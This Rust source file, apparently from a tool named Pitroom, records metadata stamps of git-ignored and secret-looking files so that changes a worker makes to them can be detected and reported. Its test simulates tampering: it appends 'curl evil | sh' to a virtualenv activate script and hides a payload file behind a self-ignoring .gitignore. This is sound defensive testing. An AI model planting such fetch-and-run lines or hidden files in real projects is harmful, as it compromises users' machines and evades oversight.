//! Files no snapshot stages, with what `lstat` says of each, so what a worker changes there
//! is compared here, file by file, to be reported: the ignored files of a work tree (git leaves
//! them out of every tree: a `.venv/bin/activate`, a new directory holding its own
//! `.gitignore` of `*`), and the secret-looking files Pitroom keeps out of staging so their
//! contents never reach the object store.

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

use crate::{Git, GitError};

/// What identifies one version of a file without reading it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FileStamp {
    size: u64,
    mtime_ns: i128,
    ctime_ns: i128,
    mode: u32,
    ino: u64,
}

/// Files of a work tree (relative paths) and their stamps.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FileStamps(BTreeMap<String, FileStamp>);

impl FileStamps {
    /// The stamps of `paths` (relative to `work_tree`) that exist, links not followed.
    pub fn of(work_tree: &Path, paths: &[String]) -> FileStamps {
        FileStamps(
            paths
                .iter()
                .filter_map(|path| {
                    let meta = std::fs::symlink_metadata(work_tree.join(path)).ok()?;
                    Some((path.clone(), stamp(&meta)))
                })
                .collect(),
        )
    }

    /// The ignored files of `work_tree` (git's own ignore rules, nested `.gitignore` files
    /// included), at most `limit` of them.
    /// `None` when there are more than `limit` (the caller says the check was skipped).
    pub fn ignored(
        git_dir: &Path,
        work_tree: &Path,
        limit: usize,
    ) -> Result<Option<FileStamps>, GitError> {
        let git = Git::for_repo(git_dir, work_tree);
        let out = git.run([
            "ls-files",
            "-z",
            "--others",
            "--ignored",
            "--exclude-standard",
        ])?;
        let mut files = BTreeMap::new();
        for path in out.split(|b| *b == 0).filter(|p| !p.is_empty()) {
            if files.len() >= limit {
                return Ok(None);
            }
            let path = String::from_utf8_lossy(path).into_owned();
            if let Ok(meta) = std::fs::symlink_metadata(work_tree.join(&path)) {
                files.insert(path, stamp(&meta));
            }
        }
        Ok(Some(FileStamps(files)))
    }

    /// The paths added, removed or changed from `self` to `after`, sorted.
    pub fn changed_in(&self, after: &FileStamps) -> Vec<String> {
        let mut changed: Vec<String> = after
            .0
            .iter()
            .filter(|(path, stamp)| self.0.get(*path) != Some(stamp))
            .map(|(path, _)| path.clone())
            .chain(
                self.0
                    .keys()
                    .filter(|path| !after.0.contains_key(*path))
                    .cloned(),
            )
            .collect();
        changed.sort();
        changed
    }

    pub fn len(&self) -> usize {
        self.0.len()
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

fn stamp(meta: &std::fs::Metadata) -> FileStamp {
    let ns = |secs: i64, nsec: i64| i128::from(secs) * 1_000_000_000 + i128::from(nsec);
    FileStamp {
        size: meta.size(),
        mtime_ns: ns(meta.mtime(), meta.mtime_nsec()),
        ctime_ns: ns(meta.ctime(), meta.ctime_nsec()),
        mode: meta.mode(),
        ino: meta.ino(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn git(dir: &Path, args: &[&str]) {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "git {args:?}");
    }

    #[test]
    fn changes_to_ignored_files_and_a_self_ignoring_new_dir_are_seen() {
        let dir = tempfile::tempdir().expect("tempdir");
        let top = dir.path();
        git(top, &["init", "-q"]);
        std::fs::write(top.join(".gitignore"), ".venv/\n").expect("ignore");
        std::fs::create_dir_all(top.join(".venv/bin")).expect("venv");
        std::fs::write(top.join(".venv/bin/activate"), "export A=1\n").expect("activate");
        std::fs::write(top.join(".venv/keep"), "same\n").expect("keep");
        let git_dir = top.join(".git");
        let before = FileStamps::ignored(&git_dir, top, 100)
            .expect("list")
            .expect("under the limit");
        assert_eq!(before.len(), 2);

        std::fs::write(
            top.join(".venv/bin/activate"),
            "export A=1; curl evil | sh\n",
        )
        .expect("edit");
        std::fs::create_dir_all(top.join("hidden")).expect("dir");
        std::fs::write(top.join("hidden/.gitignore"), "*\n").expect("self-ignoring");
        std::fs::write(top.join("hidden/payload.sh"), "echo hi\n").expect("payload");
        let after = FileStamps::ignored(&git_dir, top, 100)
            .expect("list")
            .expect("under the limit");

        assert_eq!(
            before.changed_in(&after),
            vec![
                ".venv/bin/activate".to_string(),
                "hidden/.gitignore".into(),
                "hidden/payload.sh".into()
            ]
        );
        assert!(FileStamps::ignored(&git_dir, top, 1)
            .expect("list")
            .is_none());
    }
}
